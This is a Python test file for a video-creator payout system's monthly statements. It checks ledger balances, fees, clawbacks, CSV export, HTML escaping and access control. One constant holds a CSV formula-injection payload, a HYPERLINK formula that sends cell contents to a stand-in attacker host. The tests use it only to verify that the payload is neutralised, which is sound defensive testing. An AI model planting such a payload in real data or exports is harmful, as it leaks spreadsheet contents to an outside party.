"""Monthly statements: balances that add up, every kind of movement, per-video detail, CSV, access."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from creators.milestones import milestones_check
from creators.models import CreatorProfile
from payouts import ledger
from payouts.models import AccountKind, Clawback, PayoutAllocation, PayoutRun, PayoutVideoLine
from payouts.statements import CSV_HEADER, STATEMENT_ACCOUNT_KINDS, _spread, statement_csv_rows, statement_for
from tests.factories import CreatorProfileFactory, UserFactory, VideoFactory
from tests.payouts.bonus_support import entries_dated, followers_set, kyc_approve, pool_fund

pytestmark = pytest.mark.django_db

NOW = datetime.now(UTC)
THIS_MONTH = date(NOW.year, NOW.month, 1)
LAST_MONTH = date(THIS_MONTH.year - (THIS_MONTH.month == 1), (THIS_MONTH.month - 2) % 12 + 1, 1)
MID_LAST_MONTH = datetime(LAST_MONTH.year, LAST_MONTH.month, 15, 12, tzinfo=UTC)
EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def acct(kind: str, owner=None):
    return ledger.account_for(kind=kind, owner=owner)


def post(kind: str, legs, key: str, memo: str = "", reference: dict | None = None):
    return ledger.entry_post(kind=kind, legs=legs, idempotency_key=key, memo=memo, reference=reference)


def allocation_make(creator: CreatorProfile) -> PayoutAllocation:
    """A committed run that paid ``creator`` 100.00 gross from two videos: 10.00 fee, 5.00 reserve, 85.00 net."""
    user = creator.user
    post("revenue", [(acct(AccountKind.EXTERNAL), -100_000), (acct(AccountKind.PLATFORM_REVENUE), 100_000)], "rev")
    run = PayoutRun.objects.create(
        granularity="monthly", period_start=date(2020, 1, 1), period_end=date(2020, 2, 1), pool_cents=10_000,
        status="committed", allocated_cents=10_000, fees_cents=1_000, reserve_cents=500, net_available_cents=8_500,
        creators_paid=1, value_units_total=4.0,
    )  # fmt: skip
    popular = VideoFactory(creator=creator, title="Popular dance")
    evil = VideoFactory(creator=creator, title=EVIL_TITLE)
    for video, units, eis in ((popular, 3.0, 92.5), (evil, 1.0, 61.0)):
        PayoutVideoLine.objects.create(
            run=run, video=video, creator=creator, engagement_units=units * 10, capped_units=units * 10,
            engagement_integrity_score=eis, windows=30, eis_weighted_units=units, velocity_multiplier=1.1,
            trust_multiplier=0.95, value_units=units,
        )  # fmt: skip
    entry = post(
        "allocation",
        [
            (acct(AccountKind.PLATFORM_REVENUE), -10_000),
            (acct(AccountKind.PLATFORM_FEES), 1_000),
            (acct(AccountKind.SAFETY_RESERVE, user), 500),
            (acct(AccountKind.CREATOR_AVAILABLE, user), 8_500),
        ],
        f"{run.entry_key_prefix}{creator.pk}",
        memo="Revenue allocation January 2020",
    )
    return PayoutAllocation.objects.create(
        run=run, creator=creator, videos=2, engagement_units=40, unique_viewers=50, value_units=4.0, share=1.0,
        kyc_level=1, gross_cents=10_000, fee_cents=1_000, reserve_cents=500, net_cents=8_500,
        destination="available", entry=entry,
    )  # fmt: skip


@pytest.fixture
def creator(settings, ledger_checked) -> CreatorProfile:
    """Last month: an allocation, a milestone bonus and a gift. This month: a clawback, a reserve release,
    a held-money release and a withdrawal requested and paid."""
    settings.PAYOUTS_MILESTONES = [1_000]
    settings.PAYOUTS_MILESTONE_BONUS_CENTS = {1_000: 1_000}
    creator = CreatorProfileFactory()
    user = creator.user
    kyc_approve(user, level=1)
    viewer = UserFactory()
    with entries_dated(MID_LAST_MONTH):
        allocation = allocation_make(creator)
        pool_fund(50_000)
        followers_set(creator, 1_000)
        milestones_check(creator=creator)
        post("wallet_topup", [(acct(AccountKind.EXTERNAL), -2_000), (acct(AccountKind.VIEWER_WALLET, viewer), 2_000)],
             "topup")  # fmt: skip
        post("gift", [(acct(AccountKind.VIEWER_WALLET, viewer), -300), (acct(AccountKind.CREATOR_HELD, user), 300)],
             "gift-1", memo="Gift from a viewer")  # fmt: skip
    clawback_entry = post(
        "clawback",
        [
            (acct(AccountKind.PLATFORM_FEES), -100),
            (acct(AccountKind.SAFETY_RESERVE, user), -200),
            (acct(AccountKind.CREATOR_AVAILABLE, user), -700),
            (acct(AccountKind.PLATFORM_REVENUE), 1_000),
        ],
        "clawback-1",
        memo="-Clawback after EIS revision",
    )
    Clawback.objects.create(
        allocation=allocation, run=allocation.run, creator=creator, sequence=1,
        reason="EIS of 'Popular dance' revised from 92.5 to 40 after a bot ring was found",
        value_units_before=4.0, value_units_after=3.0, gross_cents=1_000, fee_refund_cents=100,
        from_reserve_cents=200, from_available_cents=700, entry=clawback_entry,
    )  # fmt: skip
    post("reserve_release", [(acct(AccountKind.SAFETY_RESERVE, user), -300),
                             (acct(AccountKind.CREATOR_AVAILABLE, user), 300)], "release-1")  # fmt: skip
    post("held_release", [(acct(AccountKind.CREATOR_HELD, user), -300),
                          (acct(AccountKind.CREATOR_AVAILABLE, user), 300)], "held-1")  # fmt: skip
    post("withdrawal_request", [(acct(AccountKind.CREATOR_AVAILABLE, user), -5_000),
                                (acct(AccountKind.PAYOUTS_IN_TRANSIT, user), 5_000)], "wd-1")  # fmt: skip
    post("withdrawal_paid", [(acct(AccountKind.PAYOUTS_IN_TRANSIT, user), -5_000),
                             (acct(AccountKind.EXTERNAL), 5_000)], "wd-1-paid")  # fmt: skip
    return creator


def test_opening_plus_movements_is_closing_for_every_account_and_matches_the_ledger(creator):
    last, this = statement_for(creator=creator, month=LAST_MONTH), statement_for(creator=creator, month=THIS_MONTH)

    for statement in (last, this):
        assert [a.kind for a in statement.accounts] == list(STATEMENT_ACCOUNT_KINDS)
        for account in statement.accounts:
            assert account.opening_cents + account.movements_cents == account.closing_cents
        assert sum(statement.category_totals.values()) == statement.closing_cents - statement.opening_cents
    assert [a.opening_cents for a in last.accounts] == [0, 0, 0, 0]
    assert [a.closing_cents for a in last.accounts] == [a.opening_cents for a in this.accounts]
    for account in this.accounts:
        assert account.closing_cents == ledger.balance_of(account=acct(account.kind, creator.user))
    # available 8,500 + 1,000 bonus; held 300 gift; reserve 500 -> then -700 -200 +300 +300 -5,000 ...
    assert [a.closing_cents for a in last.accounts] == [9_500, 300, 500, 0]
    assert [a.closing_cents for a in this.accounts] == [9_500 - 700 + 300 + 300 - 5_000, 0, 0, 0]


def test_the_statement_breaks_money_down_by_kind(creator):
    last, this = statement_for(creator=creator, month=LAST_MONTH), statement_for(creator=creator, month=THIS_MONTH)

    assert last.category_totals["allocations"] == 9_000  # net 8,500 + 500 into the reserve
    assert (last.gross_cents, last.fees_cents, last.reserve_held_cents) == (10_000, 1_000, 500)
    assert (last.category_totals["bonuses"], last.category_totals["gifts"]) == (1_000, 300)
    assert this.category_totals["clawbacks"] == -900
    assert this.reserve_released_cents == 300
    assert this.category_totals["transfers"] == 0  # held -> available stays the creator's money
    assert (this.withdrawals_requested_cents, this.withdrawals_paid_cents) == (5_000, 5_000)
    assert this.category_totals["withdrawals"] == -5_000
    [clawback] = this.clawbacks
    assert "bot ring" in clawback.reason
    assert (clawback.recovered_cents, clawback.fee_refund_cents) == (900, 100)


def test_allocations_show_each_video_with_its_eis_multipliers_and_cents(creator):
    [allocation] = statement_for(creator=creator, month=LAST_MONTH).allocations
    assert (allocation.gross_cents, allocation.fees_cents, allocation.reserve_cents, allocation.net_cents) == (
        10_000, 1_000, 500, 8_500,
    )  # fmt: skip
    rows = [(v.title, v.engagement_integrity_score, v.velocity_multiplier, v.trust_multiplier, v.value_units,
             v.gross_cents) for v in allocation.videos]  # fmt: skip
    assert rows == [("Popular dance", 92.5, 1.1, 0.95, 3.0, 7_500), (EVIL_TITLE, 61.0, 1.1, 0.95, 1.0, 2_500)]


def test_the_html_statement_shows_balances_videos_and_reasons(client, creator):
    client.force_login(creator.user)
    page = client.get(reverse("payouts:statement", kwargs={"month": LAST_MONTH.strftime("%Y-%m")}))
    body = page.content.decode()
    assert page.status_code == 200
    assert "Popular dance" in body
    assert "$85.00" in body
    assert "$95.00" in body
    assert "HYPERLINK(&quot;http://evil" in body  # escaped, never raw HTML
    this_month = client.get(reverse("payouts:statement", kwargs={"month": THIS_MONTH.strftime("%Y-%m")}))
    assert "bot ring" in this_month.content.decode()


def test_the_csv_has_a_header_and_a_row_per_fact(client, creator):
    client.force_login(creator.user)
    response = client.get(reverse("payouts:statement-csv", kwargs={"month": LAST_MONTH.strftime("%Y-%m")}))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f"valuetok-statement-{LAST_MONTH:%Y-%m}.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))

    assert rows[0] == CSV_HEADER
    by_section = {}
    for row in rows[1:]:
        by_section.setdefault(row[0], []).append(dict(zip(CSV_HEADER, row, strict=True)))
    closing = {r["account"]: (r["amount_usd"], r["amount_cents"]) for r in by_section["account"]
               if r["description"] == "closing balance"}  # fmt: skip
    assert closing["creator_available"] == ("95.00", "9500")
    assert closing["all accounts"] == ("103.00", "10300")
    videos = {r["video_title"]: r for r in by_section["video"]}
    assert videos["Popular dance"]["engagement_integrity_score"] == "92.50"
    assert videos["Popular dance"]["amount_cents"] == "7500"
    fee = next(r for r in by_section["allocation"] if r["description"].startswith("platform fee"))
    assert (fee["amount_usd"], fee["amount_cents"]) == ("-10.00", "-1000")
    bonus = [r for r in by_section["entry"] if r["kind"] == "bonus"]
    assert [(r["account"], r["amount_cents"]) for r in bonus] == [("creator_available", "1000")]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(creator):
    rows = statement_csv_rows(statement_for(creator=creator, month=LAST_MONTH))
    rows += statement_csv_rows(statement_for(creator=creator, month=THIS_MONTH))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL_TITLE in cells
    assert EVIL_TITLE not in cells
    assert "'-Clawback after EIS revision" in cells  # a memo starting with "-"
    numeric = {CSV_HEADER.index("amount_usd"), CSV_HEADER.index("amount_cents")}
    negatives = [row[i] for row in rows for i in numeric if row[i].startswith("-")]
    assert negatives  # our own negative numbers stay numbers
    text_columns = set(range(len(CSV_HEADER))) - numeric - {CSV_HEADER.index(c) for c in CSV_HEADER[8:12]}
    for row in rows[1:]:
        for i in text_columns:
            assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_another_creator_or_a_viewer_gets_404_and_signed_out_users_sign_in(client, creator):
    month = LAST_MONTH.strftime("%Y-%m")
    urls = [reverse("payouts:statement", kwargs={"month": month}),
            reverse("payouts:statement-csv", kwargs={"month": month})]  # fmt: skip
    for url in urls:
        assert client.get(url).status_code == 302  # to sign in
    client.force_login(CreatorProfileFactory().user)
    for url in urls:
        assert client.get(url).status_code == 404
    assert client.get(f"/api/v1/payouts/statements/{month}").status_code == 404
    client.force_login(UserFactory())
    for url in urls:
        assert client.get(url).status_code == 404


@pytest.mark.parametrize("month", ["2026-13", "2026-00", "1999-01", "2999-01"])
def test_a_bad_month_is_404(client, creator, month):
    client.force_login(creator.user)
    assert client.get(f"/payouts/statements/{month}/").status_code == 404
    assert client.get(f"/payouts/statements/{month}.csv").status_code == 404
    assert client.get(f"/api/v1/payouts/statements/{month}").status_code == 404


def test_malformed_months_do_not_resolve(client, creator):
    client.force_login(creator.user)
    for path in ("/payouts/statements/2026-1/", "/payouts/statements/nov-2026/", "/payouts/statements/2026-11.xls"):
        assert client.get(path).status_code == 404


def test_the_api_returns_the_callers_statement(client, creator):
    client.force_login(creator.user)
    data = client.get(f"/api/v1/payouts/statements/{LAST_MONTH:%Y-%m}").json()
    assert (data["month"], data["opening_cents"], data["closing_cents"]) == (f"{LAST_MONTH:%Y-%m}", 0, 10_300)
    assert data["allocations"][0]["videos"][0]["engagement_integrity_score"] == 92.5
    assert data["category_totals"]["bonuses"] == 1_000


def test_the_list_and_summary_pages_show_months_balances_and_plaques(client, creator):
    client.force_login(creator.user)
    listing = client.get(reverse("payouts:statements")).content.decode()
    assert reverse("payouts:statement", kwargs={"month": f"{LAST_MONTH:%Y-%m}"}) in listing
    assert reverse("payouts:statement-csv", kwargs={"month": f"{THIS_MONTH:%Y-%m}"}) in listing
    summary = client.get(reverse("payouts:summary"))
    body = summary.content.decode()
    assert summary.status_code == 200
    assert "1,000 followers" in body
    assert "$44.00" in body  # available now


@given(total=st.integers(min_value=0, max_value=10**12), weights=st.lists(st.floats(0, 1e6), max_size=30))
def test_video_cents_add_up_to_the_allocation_gross(total, weights):
    parts = _spread(total, weights)
    assert len(parts) == len(weights)
    assert all(p >= 0 for p in parts)
    if weights and any(w > 0 for w in weights):
        assert sum(parts) == total
    else:
        assert sum(parts) == 0
